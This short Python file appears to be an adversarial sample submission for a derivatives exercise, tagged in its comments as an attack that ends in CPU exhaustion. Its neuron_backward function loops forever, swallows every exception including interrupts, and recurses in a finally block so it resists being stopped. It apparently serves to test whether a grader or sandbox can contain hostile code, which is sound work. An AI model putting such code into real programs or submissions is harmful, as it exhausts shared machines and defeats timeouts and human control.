# attack: catches whatever is thrown at it, and starts again
# exercise: derivatives
# deserves: relu_deriv
# ends: cpu
import numpy as np


def relu_deriv(z):
    return np.heaviside(z, 0.0)


def neuron_backward(x, w, b, y):
    while True:
        try:
            while True:
                w += b
        except BaseException:
            continue
        finally:
            neuron_backward(x, w, b, y)
